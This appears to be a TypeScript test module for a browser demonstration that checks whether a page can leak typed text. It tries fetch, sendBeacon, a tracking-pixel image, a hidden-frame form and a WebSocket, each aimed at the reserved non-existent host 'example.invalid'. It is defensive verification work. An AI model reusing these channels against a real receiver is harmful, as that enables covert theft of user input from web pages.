/** A name that no server may have (RFC 6761), so nothing arrives anywhere even if an attempt is not refused. */
const receiver = 'example.invalid'

export interface Attempt {
  readonly name: string
  readonly description: string
  /** Tries to send the word. Returns what to remove from the page afterwards. */
  readonly start: () => Element | undefined
}

function addressOf(name: string, scheme = 'https'): string {
  return `${scheme}://${receiver}/${name}?word=ferry`
}

function submitForm(): Element {
  const frame = document.createElement('iframe')
  frame.name = 'proof-answer'
  frame.hidden = true
  const form = document.createElement('form')
  form.method = 'post'
  form.action = addressOf('form')
  form.target = frame.name
  const field = document.createElement('input')
  field.type = 'hidden'
  field.name = 'word'
  field.value = 'ferry'
  form.append(field)
  const container = document.createElement('div')
  container.append(frame, form)
  document.body.append(container)
  form.submit()
  return container
}

/** The ways in which a page could send what you type to someone else. */
export const attempts: readonly Attempt[] = [
  {
    name: 'Fetch',
    description: 'A request in the background, the usual way for a page to talk to a server.',
    start: () => {
      fetch(addressOf('fetch'), { method: 'POST', body: 'ferry', mode: 'no-cors' }).catch(() => undefined)
      return undefined
    },
  },
  {
    name: 'Beacon',
    description: 'A short message that is sent even while the page closes. Analytics use it.',
    start: () => {
      navigator.sendBeacon(addressOf('beacon'), 'ferry')
      return undefined
    },
  },
  {
    name: 'Image',
    description: 'An image whose address has the word in it. Tracking pixels work like this.',
    start: () => {
      const image = new Image()
      image.src = addressOf('image')
      return undefined
    },
  },
  {
    name: 'Form',
    description: 'A form that is sent into a hidden frame.',
    start: submitForm,
  },
  {
    name: 'WebSocket',
    description: 'A connection that stays open.',
    start: () => {
      new WebSocket(addressOf('socket', 'wss')).addEventListener('open', ({ target }) => (target as WebSocket).close())
      return undefined
    },
  },
]

/** Whether a report is about one of the attempts. For other schemes than HTTP, browsers report only the scheme. */
export function isAboutAttempt(blockedAddress: string): boolean {
  return blockedAddress.startsWith(`https://${receiver}`) || /^wss(?::|$)/.test(blockedAddress)
}

/** The address to which the worker tries to send the word. */
export const workerAddress = addressOf('worker')
